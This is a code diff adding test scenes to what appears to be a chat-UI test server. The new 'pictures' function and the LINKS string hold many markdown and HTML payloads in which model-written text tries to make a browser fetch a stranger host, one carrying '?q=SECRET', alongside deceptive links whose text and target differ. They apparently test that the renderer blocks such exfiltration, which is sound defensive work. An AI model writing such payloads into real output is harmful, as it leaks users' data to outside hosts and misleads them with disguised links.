@@ -4,6 +4,7 @@ What has a middle waits there until the same user says "go on" in another thread
 """
 
 import asyncio
+import re
 from base64 import b64encode
 from collections import defaultdict
 from collections.abc import AsyncIterator, Callable
@@ -63,6 +64,7 @@ from chatkit.types import (
     WorkflowTaskUpdated,
 )
 from chatkit.widgets import Card, Markdown, Text, Title
+from chatkit.widgets import Image as Picture
 from PIL import Image
 
 from chatkit_link.agents.context import TurnContext
@@ -302,6 +304,53 @@ async def hostile(ctx: TurnContext) -> Events:
     )
 
 
+async def pictures(ctx: TurnContext, stranger: str) -> Events:
+    """What a model writes that wants a browser to call a stranger, and a widget that the server has written."""
+    attempts = [
+        f"![plain]({stranger}/plain.svg?q=SECRET)",
+        f"![by reference][there]\n\n[there]: {stranger}/reference.svg",
+        f"<img src='{stranger}/tag.svg' alt='a tag' srcset='{stranger}/set.svg 2x' style='content:url({stranger}/s)'>",
+        f"![without a scheme]({stranger.removeprefix('http:')}/relative.svg)",
+        f"<img src='/\\{stranger.removeprefix('http://')}/backslash.svg' alt='a backslash'>",
+        f"[![in a link]({stranger}/linked.svg)]({stranger}/page)",
+        f"<picture><source srcset='{stranger}/source.svg'><img src='{stranger}/fallback.svg' alt='of many'></picture>",
+        f"![with a user](http://127.0.0.1@{stranger.removeprefix('http://')}/user.svg)",
+        f"<video src='{stranger}/v' poster='{stranger}/poster.svg' autoplay></video>",
+        f"<link rel=prefetch href='{stranger}/prefetch'><audio src='{stranger}/audio' autoplay></audio>",
+        f"$$\\includegraphics{{{stranger}/formula.svg}}$$",
+        "![data](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'/%3E)",
+        "![own](/own-picture.svg)",
+        "![elsewhere](https://xn--bcher-kva.example:8443/book.svg) ![plain http](http://plain.example/p.svg)",
+    ]
+    thought = ThoughtTask(content=f"![thought]({stranger}/thought.svg)")
+    steps = Workflow(type="reasoning", tasks=[thought], summary=DurationSummary(duration=2), expanded=True)
+    yield _done(WorkflowItem(**_base(ctx, "workflow"), workflow=steps))
+    card = Card(
+        children=[
+            Picture(src=f"{stranger}/widget.svg", alt="of the widget"),
+            Markdown(value=f"![in its text]({stranger}/widget-text.svg)"),
+        ]
+    )
+    yield _done(WidgetItem(**_base(ctx, "message"), widget=card))
+    source = URLSource(title=f"![title]({stranger}/title.svg)", url="https://named.example/page")
+    marks = [Annotation(source=source, index=0)]
+    yield _done(_message(ctx, "\n\n".join(["See:", *attempts, "The end."]), marks))
+    yield NoticeEvent(level="info", message=f"![notice]({stranger}/notice.svg)")
+
+
+LINKS = """
+[unknown](https://stranger.example/collect?q=SECRET#part), [source](https://named.example/other),
+[yours](http://written.example:8080/x), [this server](/documents/), [mail](mailto:me@stranger.example),
+[https://named.example](https://named.example.stranger.example/login), [named.example/login](https://written.example:8080/),
+[user](https://named.example@xn--bcher-kva.example/), <https://stranger.example/bare>, [`setup.py`](https://named.example/)
+"""
+
+
+async def links(ctx: TurnContext) -> Events:
+    marks = [Annotation(source=URLSource(title="Named", url="https://named.example/page"), index=0)]
+    yield _done(_message(ctx, LINKS, marks))
+
+
 async def long(ctx: TurnContext) -> Events:
     """Five thousand words, a few at a time: at the pace of a quick model, not as fast as the line can."""
     item = _message(ctx, "")
@@ -391,6 +440,7 @@ SCENES: dict[str, Callable[[TurnContext], Events]] = {
     "close": close,
     "domains": domains,
     "hostile": hostile,
+    "links": links,
     "long": long,
     "markdown": markdown,
     "thousand": thousand,
@@ -404,6 +454,11 @@ async def items(ctx: TurnContext) -> Events:
     """The scene that the newest message names; anything else is said back."""
     spoken = [item for item in await ctx.history() if isinstance(item, UserMessageItem)]
     name = "".join(part.text for part in spoken[-1].content).strip().lower()
+    if port := re.fullmatch(r"pictures of port (\d+)", name):
+        async for event in pictures(ctx, f"http://127.0.0.1:{port[1]}"):
+            yield event
+        return
+    name = name.partition(" and ")[0]
     if name not in SCENES:
         quoted = f" about “{spoken[-1].quoted_text}”" if spoken[-1].quoted_text else ""
         yield _done(_message(ctx, f"You said “{name}”{quoted}."))
